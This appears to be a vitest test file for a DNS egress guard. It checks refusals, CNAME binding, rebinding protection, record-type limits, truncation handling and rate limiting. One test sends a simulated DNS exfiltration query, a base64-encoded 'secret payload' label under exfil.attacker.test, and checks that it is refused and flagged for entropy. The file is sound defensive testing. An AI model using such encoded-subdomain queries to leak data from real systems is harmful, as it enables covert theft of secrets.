/**
 * The DNS guard end to end on loopback, with real clients (dig, Node's resolver) and a recording
 * upstream: what the upstream saw proves that refused questions never left the edge.
 */
import dns from 'node:dns';
import * as dnsPacket from 'dns-packet';
import { afterEach, describe, expect, it } from 'vitest';
import { startDnsServer, type TestDnsServer } from '../../../../test/support/index.js';
import type { EdgeOptions } from '../../src/index.js';
import { type EventLine, policyOf, startTestEdge, type TestEdge } from '../helpers/edge-kit.js';
import { dig, query, rcodeOf, reply, startRawUpstream, udpExchange } from './dns-kit.js';

const POLICY = `
version: 1
allow:
  - name: api
    hosts: [api.allowed.test, www.allowed.test, "bücher.example"]
  - name: private-ok
    hosts: [internal.allowed.test]
    privateAddresses: allow
  - name: txt
    hosts: [_verify.allowed.test]
    dns: { types: [TXT] }
  - name: rebind
    hosts: [rebind.allowed.test]
deny:
  - name: no-secret
    hosts: [secret.allowed.test]
`;

const cleanup: Array<() => Promise<void> | void> = [];
afterEach(async () => {
  for (const fn of cleanup.splice(0).reverse()) await fn();
});

async function setUp(
  upstream: TestDnsServer | { port: number },
  extra: Partial<EdgeOptions['dns']> = {},
  policyText = POLICY,
): Promise<{ t: TestEdge; port: number; dnsEvents: () => EventLine[] }> {
  const t = await startTestEdge({
    policy: policyOf(policyText),
    listeners: [{ kind: 'explicit', port: 0 }],
    dns: { listen: ['127.0.0.1:0'], servers: [`127.0.0.1:${upstream.port}`], timeout: 1000, ...extra },
  });
  cleanup.push(() => t.close());
  const port = t.edge.dnsListeners[0]!.port;
  return { t, port, dnsEvents: () => t.capture.lines.filter((l) => l['event.name'] === 'egress.dns') };
}

async function recordingUpstream(): Promise<TestDnsServer> {
  const upstream = await startDnsServer({
    'api.allowed.test': [{ type: 'A', data: '93.184.216.34', ttl: 30 }],
    'www.allowed.test': [{ type: 'CNAME', data: 'edge.cdn.example', ttl: 30 }],
    'edge.cdn.example': [
      { type: 'A', data: '93.184.216.35', ttl: 20 },
      { type: 'AAAA', data: '2606:2800:220:1::35', ttl: 20 },
    ],
    'internal.allowed.test': [{ type: 'A', data: '10.1.2.3', ttl: 30 }],
    'rebind.allowed.test': [{ type: 'A', data: '127.0.0.1', ttl: 0 }],
    'xn--bcher-kva.example': [{ type: 'A', data: '93.184.216.36', ttl: 30 }],
    'exfil.attacker.test': [{ type: 'A', data: '93.184.216.99' }],
  });
  cleanup.push(() => upstream.close());
  return upstream;
}

describe('the DNS guard, with dig', () => {
  it('forwards a question for an allowed name and answers with the upstream addresses', async () => {
    const upstream = await recordingUpstream();
    const { t, port, dnsEvents } = await setUp(upstream);
    const result = await dig(port, ['api.allowed.test', 'A']);
    expect(result.status).toBe('NOERROR');
    expect(result.answers.map((a) => a.data)).toEqual(['93.184.216.34']);
    expect(upstream.queries).toEqual([{ name: 'api.allowed.test', type: 'A', transport: 'udp' }]);
    const [event] = dnsEvents();
    expect(event).toMatchObject({
      'egress.decision': 'allowed',
      'egress.reason': 'allowed',
      'egress.rule': 'api',
      'dns.question.name': 'api.allowed.test',
      'egress.dns.type': 'A',
      'egress.dns.rcode': 'NOERROR',
      'egress.dns.answer_count': 1,
      'dns.answers': ['93.184.216.34'],
      'network.transport': 'udp',
      'client.address': '127.0.0.1',
      'egress.policy.hash': t.edge.policy.hash,
    });
    expect(t.capture.invalid).toEqual([]);
  });

  it('refuses a name no rule allows, and the upstream never hears of it', async () => {
    const upstream = await recordingUpstream();
    const { t, port, dnsEvents } = await setUp(upstream);
    const name = 'c2VjcmV0LXBheWxvYWQtMTIzNDU2Nzg5MA.exfil.attacker.test';
    const result = await dig(port, [name, 'A']);
    expect(result.status).toBe('REFUSED');
    expect(result.answers).toEqual([]);
    const denied = await dig(port, ['secret.allowed.test', 'A']);
    expect(denied.status).toBe('REFUSED');
    expect(upstream.queries).toEqual([]);
    const [first, second] = dnsEvents();
    expect(first).toMatchObject({
      'egress.decision': 'denied',
      'egress.reason': 'host_not_allowed',
      'egress.dns.rcode': 'REFUSED',
      'egress.dns.answer_count': 0,
      'egress.dns.parent': 'attacker.test',
      'egress.dns.parent_distinct_names': 1,
      'egress.dns.label_max_length': 34,
    });
    expect(first!['egress.dns.entropy']).toBeGreaterThan(4);
    expect(String(first!['egress.message'])).toContain('to allow it, add a rule with hosts');
    expect(second).toMatchObject({ 'egress.reason': 'explicit_deny', 'egress.rule': 'no-secret' });
    const metrics = await t.edge.registry.getSingleMetricAsString('egress_edge_dns_questions_total');
    expect(metrics).toContain(
      'result="denied",reason="host_not_allowed",rcode="REFUSED",type="A",transport="udp"} 1',
    );
    const signals = await t.edge.registry.getSingleMetricAsString(
      'egress_edge_dns_exfiltration_signals_total',
    );
    expect(signals).toContain('signal="high_entropy"} 1');
  });

  it('answers NXDOMAIN instead when configured so', async () => {
    const upstream = await recordingUpstream();
    const { port } = await setUp(upstream, { refusal: 'nxdomain' });
    expect((await dig(port, ['nobody.test', 'A'])).status).toBe('NXDOMAIN');
    expect(upstream.queries).toEqual([]);
  });

  it('follows a CNAME chain and binds every name of it to the addresses, for at least the floor', async () => {
    const upstream = await recordingUpstream();
    const { t, port } = await setUp(upstream, { minTtl: '10m' });
    const result = await dig(port, ['www.allowed.test', 'A']);
    expect(result.answers.map((a) => [a.type, a.data])).toEqual([
      ['CNAME', 'edge.cdn.example.'],
      ['A', '93.184.216.35'],
    ]);
    const bindings = t.edge.dns!.bindings;
    expect(bindings.holds('www.allowed.test', '93.184.216.35')).toBe(true);
    expect(bindings.holds('edge.cdn.example', '93.184.216.35')).toBe(true);
    // The name rotates upstream: the claims check still accepts the address the client was given.
    upstream.set('edge.cdn.example', [{ type: 'A', data: '93.184.216.77' }]);
    expect(await t.edge.resolver.resolvesTo('www.allowed.test', '93.184.216.35')).toBe(true);
    expect(await t.edge.resolver.resolvesTo('www.allowed.test', '93.184.216.1')).toBe(false);
  });

  it('refuses an answer that carries a special-purpose address, unless the rule allows private addresses', async () => {
    const upstream = await recordingUpstream();
    const { t, port, dnsEvents } = await setUp(upstream);
    const rebind = await dig(port, ['rebind.allowed.test', 'A']);
    expect(rebind.status).toBe('REFUSED');
    expect(rebind.answers).toEqual([]);
    expect(t.edge.dns!.bindings.holds('rebind.allowed.test', '127.0.0.1')).toBe(false);
    const internal = await dig(port, ['internal.allowed.test', 'A']);
    expect(internal.status).toBe('NOERROR');
    expect(internal.answers.map((a) => a.data)).toEqual(['10.1.2.3']);
    expect(dnsEvents()[0]).toMatchObject({
      'egress.decision': 'denied',
      'egress.reason': 'private_address',
      'egress.rule': 'rebind',
      'egress.dns.rcode': 'REFUSED',
    });
  });

  it('allows only A, AAAA, CNAME, HTTPS and SVCB unless the rule lists other types', async () => {
    const upstream = await recordingUpstream();
    const { port, dnsEvents } = await setUp(upstream);
    expect((await dig(port, ['api.allowed.test', 'TXT'])).status).toBe('REFUSED');
    expect((await dig(port, ['api.allowed.test', 'ANY'])).status).toBe('REFUSED');
    expect((await dig(port, ['api.allowed.test', 'AXFR'])).status).not.toBe('NOERROR');
    expect(upstream.queries).toEqual([]);
    expect((await dig(port, ['_verify.allowed.test', 'TXT'])).status).not.toBe('REFUSED');
    expect(upstream.queries).toEqual([{ name: '_verify.allowed.test', type: 'TXT', transport: 'udp' }]);
    expect(dnsEvents()[0]).toMatchObject({ 'egress.reason': 'dns_type_not_allowed', 'egress.rule': 'api' });
    expect(String(dnsEvents()[0]!['egress.message'])).toContain(
      'dns: { types: [A, AAAA, CNAME, HTTPS, SVCB, TXT] }',
    );
  });

  it('answers an IDN name asked in its A-label form, as the policy lists it in Unicode', async () => {
    const upstream = await recordingUpstream();
    const { port } = await setUp(upstream);
    const result = await dig(port, ['+noidnin', 'xn--bcher-kva.example', 'A']);
    expect(result.answers.map((a) => a.data)).toEqual(['93.184.216.36']);
  });

  it('sets TC when the answer does not fit a client without EDNS, and dig gets it all over TCP', async () => {
    const many = Array.from({ length: 60 }, (_, i) => ({
      type: 'A' as const,
      data: `93.184.217.${i + 1}`,
      ttl: 30,
    }));
    const upstream = await startDnsServer({ 'api.allowed.test': many });
    cleanup.push(() => upstream.close());
    const { port, dnsEvents } = await setUp(upstream);
    const result = await dig(port, ['+noedns', 'api.allowed.test', 'A']);
    expect(result.status).toBe('NOERROR');
    expect(result.answers).toHaveLength(60);
    const transports = dnsEvents().map((e) => e['network.transport']);
    expect(transports).toEqual(['udp', 'tcp']);
    expect(dnsEvents()[0]!['egress.dns.answer_count']).toBe(0);
    const tcp = await dig(port, ['+tcp', 'api.allowed.test', 'A']);
    expect(tcp.answers).toHaveLength(60);
  });

  it('forwards the would-deny in report mode and records it', async () => {
    const upstream = await recordingUpstream();
    const { port, dnsEvents } = await setUp(upstream, {}, `${POLICY}\nmode: report\n`);
    const result = await dig(port, ['exfil.attacker.test', 'A']);
    expect(result.answers.map((a) => a.data)).toEqual(['93.184.216.99']);
    expect(upstream.queries.map((q) => q.name)).toEqual(['exfil.attacker.test']);
    expect(dnsEvents()[0]).toMatchObject({
      'egress.decision': 'reported',
      'egress.reason': 'host_not_allowed',
      'egress.mode': 'report',
      'egress.dns.parent': 'attacker.test',
    });
  });
});

describe('the DNS guard, with Node’s resolver', () => {
  it('resolves allowed names and gets EREFUSED for the rest', async () => {
    const upstream = await recordingUpstream();
    const { port } = await setUp(upstream);
    const resolver = new dns.promises.Resolver({ timeout: 2000, tries: 1 });
    resolver.setServers([`127.0.0.1:${port}`]);
    expect(await resolver.resolve4('api.allowed.test')).toEqual(['93.184.216.34']);
    expect(await resolver.resolve6('www.allowed.test')).toEqual(['2606:2800:220:1::35']);
    expect(await resolver.resolve4('bücher.example')).toEqual(['93.184.216.36']);
    await expect(resolver.resolve4('nobody.test')).rejects.toMatchObject({ code: 'EREFUSED' });
    expect(upstream.queries.map((q) => q.name)).not.toContain('nobody.test');
  });
});

describe('the DNS guard and its upstream', () => {
  it('answers SERVFAIL when the upstream does not answer in time', async () => {
    const silent = await startRawUpstream(() => undefined);
    cleanup.push(() => silent.close());
    const { port, dnsEvents } = await setUp(silent, { timeout: 300 });
    const result = await dig(port, ['api.allowed.test', 'A']);
    expect(result.status).toBe('SERVFAIL');
    expect(dnsEvents()[0]).toMatchObject({
      'egress.reason': 'upstream_unreachable',
      'egress.dns.rcode': 'SERVFAIL',
    });
  });

  it('sends the upstream only the question, in a query the edge built: its own ID, no client options', async () => {
    const raw = await startRawUpstream((q) =>
      reply(q, [{ type: 'A', name: 'api.allowed.test', ttl: 60, data: '93.184.216.34' }]),
    );
    cleanup.push(() => raw.close());
    const { port } = await setUp(raw);
    const answer = await udpExchange(
      port,
      dnsPacket.encode({
        type: 'query',
        id: 777,
        flags: dnsPacket.RECURSION_DESIRED,
        questions: [{ type: 'A', name: 'API.Allowed.Test', class: 'IN' }],
        additionals: [
          {
            type: 'OPT',
            name: '.',
            udpPayloadSize: 4096,
            flags: 0,
            options: [
              { code: 8, family: 1, sourcePrefixLength: 24, scopePrefixLength: 0, ip: '198.51.100.0' },
            ],
          } as dnsPacket.Answer,
        ],
      }),
    );
    expect(answer && rcodeOf(answer)).toBe(0);
    const decoded = dnsPacket.decode(answer!);
    expect(decoded.id).toBe(777);
    // The question is echoed as the client wrote it (0x20 case randomisation keeps working).
    expect(decoded.questions?.[0]?.name).toBe('API.Allowed.Test');
    expect(raw.received).toHaveLength(1);
    const sent = raw.received[0]!.packet!;
    expect(sent.questions).toEqual([{ name: 'API.Allowed.Test', type: 'A', class: 'IN' }]);
    expect(sent.answers).toEqual([]);
    expect(sent.authorities).toEqual([]);
    expect(sent.additionals).toHaveLength(1);
    expect(sent.additionals![0]).toMatchObject({ type: 'OPT', udpPayloadSize: 1232, options: [] });
  });

  it('asks again over TCP when the upstream truncates its UDP answer', async () => {
    const records: dnsPacket.Answer[] = [
      { type: 'A', name: 'api.allowed.test', ttl: 60, data: '93.184.216.34' },
    ];
    const raw = await startRawUpstream((q, transport) => {
      if (transport === 'tcp') return reply(q, records);
      const truncated = reply(q, []);
      truncated.writeUInt16BE(truncated.readUInt16BE(2) | 0x0200, 2);
      return truncated;
    });
    cleanup.push(() => raw.close());
    const { port, dnsEvents } = await setUp(raw);
    const result = await dig(port, ['api.allowed.test', 'A']);
    expect(result.answers.map((a) => a.data)).toEqual(['93.184.216.34']);
    expect(raw.received.map((r) => r.transport)).toEqual(['udp', 'tcp']);
    // The same query, asked twice: the TCP one is the guard's too.
    expect(raw.received[1]!.raw.equals(raw.received[0]!.raw)).toBe(true);
    expect(dnsEvents()[0]).toMatchObject({ 'network.transport': 'udp', 'egress.dns.answer_count': 1 });
  });

  it('passes HTTPS records on without the ech parameter', async () => {
    // priority 1, target ".", alpn=h2, ipv4hint=93.184.216.34, ech=<3 bytes> (keys in ascending order)
    const rdata = Buffer.from([
      0, 1, 0, 0, 1, 0, 3, 2, 0x68, 0x32, 0, 4, 0, 4, 93, 184, 216, 34, 0, 5, 0, 3, 0xaa, 0xbb, 0xcc,
    ]);
    const raw = await startRawUpstream((q) =>
      reply(q, [
        {
          type: 'UNKNOWN_65' as dnsPacket.RecordType,
          name: 'api.allowed.test',
          ttl: 60,
          data: rdata,
        } as dnsPacket.Answer,
      ]),
    );
    cleanup.push(() => raw.close());
    const { t, port } = await setUp(raw);
    const answer = await udpExchange(port, query('api.allowed.test', 'UNKNOWN_65', 9, true));
    const decoded = dnsPacket.decode(answer!);
    expect(decoded.answers).toHaveLength(1);
    const passed = (decoded.answers![0] as { data: Buffer }).data;
    expect([...passed]).toEqual([0, 1, 0, 0, 1, 0, 3, 2, 0x68, 0x32, 0, 4, 0, 4, 93, 184, 216, 34]);
    expect(t.edge.dns!.bindings.holds('api.allowed.test', '93.184.216.34')).toBe(true);
  });

  it('drops questions beyond the per-source rate and counts them', async () => {
    const upstream = await recordingUpstream();
    const { t, port } = await setUp(upstream, { rateLimit: 2 });
    const replies = await Promise.all(
      Array.from({ length: 12 }, (_, i) => udpExchange(port, query('nobody.test', 'A', 100 + i), 800)),
    );
    const answered = replies.filter((r) => r !== undefined).length;
    expect(answered).toBeGreaterThanOrEqual(4);
    expect(answered).toBeLessThan(12);
    const dropped = await t.edge.registry.getSingleMetricAsString('egress_edge_dns_dropped_total');
    expect(dropped).toContain(`why="rate_limited",transport="udp"} ${12 - answered}`);
  });
});
